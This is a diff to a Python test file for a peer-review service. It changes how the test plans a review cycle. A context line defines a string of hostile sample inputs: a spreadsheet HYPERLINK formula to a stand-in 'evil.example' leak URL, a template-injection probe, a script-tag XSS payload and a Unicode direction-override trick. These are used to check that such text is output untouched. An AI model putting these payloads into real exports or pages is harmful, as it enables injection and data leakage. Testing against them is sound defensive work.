@@ -27,7 +27,7 @@ import yaml
 from docx import Document as WordDocument
 from sqlmodel import select
 
-from helpers import EXAMPLE, run_cli, sign_in
+from helpers import EXAMPLE, plan_and_publish, run_cli, sign_in
 
 #: Everything in one line that is not refused: it must come out as typed.
 MIX_LINE = '=HYPERLINK("http://evil.example/?leak","Click") [/] [bold]x[/red] {{ 7*7 }} {% if x %} <script>alert(1)</script> \u202eevil\u202c 📚 & \'q\''
@@ -229,7 +229,7 @@ def test_a_review_with_hostile_text_everywhere(database_url, tmp_path):
     from peer_review import clock
     from peer_review.demo.simulation import answer as simulated
     from peer_review.files.partnerships import load_partnership_file
-    from peer_review.service import loading, planning, queries, sweep, workflow
+    from peer_review.service import loading, queries, sweep, workflow
     from peer_review.service.calendars import visits_calendar
     from peer_review.store import db
     from peer_review.store.tables import Document, OutboxMessage, Review, Task
@@ -239,7 +239,7 @@ def test_a_review_with_hostile_text_everywhere(database_url, tmp_path):
     try:
         with db.session_scope() as session:
             loading.store_partnership(session, loaded)
-            planning.plan_cycle(session, None)
+            plan_and_publish(session, None)
         kinds_seen, typed_kinds = set(), set()
         for _round in range(40):
             sweep.advance_review(db.session_scope, 1)
